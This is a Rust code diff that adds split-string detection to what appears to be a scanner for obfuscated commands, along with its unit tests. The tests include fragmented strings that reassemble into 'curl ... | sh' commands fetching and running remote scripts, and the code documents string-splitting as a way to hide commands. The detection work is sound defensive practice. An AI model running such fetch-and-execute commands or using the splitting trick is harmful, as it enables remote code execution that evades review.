@@ -54,6 +54,8 @@ pub enum Encoding {
     Rot13,
     /// Digits for letters, or letters spaced apart.
     Respelled,
+    /// A string cut into pieces that code puts back together.
+    Fragments,
 }
 
 impl Encoding {
@@ -63,6 +65,7 @@ impl Encoding {
             Encoding::Hex => "hex",
             Encoding::Rot13 => "rot13",
             Encoding::Respelled => "leetspeak",
+            Encoding::Fragments => "split strings",
         }
     }
 }
@@ -124,6 +127,7 @@ pub fn decoded(text: &str) -> Vec<(Encoding, String)> {
     let spelled = [
         (Encoding::Rot13, rot13(text)),
         (Encoding::Respelled, respelled(text)),
+        (Encoding::Fragments, fragments(text)),
     ];
     for (encoding, text) in spelled {
         let Some(mut text) = text else {
@@ -210,6 +214,56 @@ fn rot13(text: &str) -> Option<String> {
         .is_match(text)
         .then(|| text.chars().map(rotate).collect())
 }
+
+/// Short string literals in a row that code joins (`["cu", "rl -s", ...]`,
+/// `"ev" + "al"`, `'a' .. 'b'`), put back together; `None` if there are
+/// none. A run counts when it has [`MIN_FRAGMENTS`] pieces, a word is
+/// cut between two of them, and a piece carries the space between two
+/// words at its edge: a list of names, flags or phrases has neither.
+fn fragments(text: &str) -> Option<String> {
+    static PIECES: OnceLock<Option<Regex>> = OnceLock::new();
+    let pieces = PIECES
+        .get_or_init(|| Regex::new(r#""([^"\\\n]{1,24})"|'([^'\\\n]{1,24})'"#).ok())
+        .as_ref()?;
+    let mut out = String::new();
+    let mut run: Vec<&str> = Vec::new();
+    let mut cut = false;
+    let mut end = 0;
+    let flush = |run: &mut Vec<&str>, cut: &mut bool, out: &mut String| {
+        let spaced = run
+            .iter()
+            .any(|piece| piece.starts_with(' ') || piece.ends_with(' '));
+        if run.len() >= MIN_FRAGMENTS && *cut && spaced {
+            out.push_str(&run.concat());
+            out.push('\n');
+        }
+        run.clear();
+        *cut = false;
+    };
+    for found in pieces.captures_iter(text) {
+        let (Some(whole), Some(piece)) = (found.get(0), found.get(1).or_else(|| found.get(2)))
+        else {
+            continue;
+        };
+        let gap = text[end..whole.start()].trim();
+        let joined = matches!(gap, "," | "+" | "." | ".." | "&" | "||");
+        if !joined || run.is_empty() {
+            flush(&mut run, &mut cut, &mut out);
+        } else if let (Some(last), Some(first)) = (
+            run.last().and_then(|last| last.chars().last()),
+            piece.as_str().chars().next(),
+        ) {
+            cut |= last.is_alphanumeric() && first.is_alphanumeric();
+        }
+        run.push(piece.as_str());
+        end = whole.end();
+    }
+    flush(&mut run, &mut cut, &mut out);
+    (!out.is_empty()).then_some(out)
+}
+
+/// Pieces in a row that make a split string.
+const MIN_FRAGMENTS: usize = 4;
 
 /// The lines of `text` written in leetspeak ("r34d1ng th1s") or with
 /// their letters spaced apart ("c u r l"), spelled back; `None` if there
@@ -571,6 +625,29 @@ mod tests {
         let filler = "A".repeat(payload.len());
         let found = decoded(&format!("{filler}\n{payload}\n"));
         assert_eq!(found, [(Encoding::Base64, order.to_owned())]);
+    }
+
+    #[test]
+    fn split_strings_are_joined_when_a_word_is_cut() {
+        let code = r#"_P = ["cu", "rl -s", " https://", "maint-", "jobs.sa", "/run", " | s", "h"]"#;
+        let found = decoded(code);
+        assert_eq!(found[0].0, Encoding::Fragments);
+        assert!(is_command(&found[0].1), "{found:?}");
+        assert!(
+            decoded(r#"cmd = 'cu' + 'rl ' + 'x.io/a' + ' | sh'"#)[0]
+                .1
+                .contains("curl x.io/a | sh")
+        );
+        // Whole words in a list are no split string, nor three pieces.
+        assert_eq!(
+            decoded(r#"langs = ["en", "fr", "de", "es", "it"]"#),
+            Vec::new()
+        );
+        assert_eq!(
+            decoded(r#"tips = ["run it", "then test", "and ship", "or wait"]"#),
+            Vec::new()
+        );
+        assert_eq!(decoded(r#"x = "cu" + "rl" + " | sh""#), Vec::new());
     }
 
     #[test]
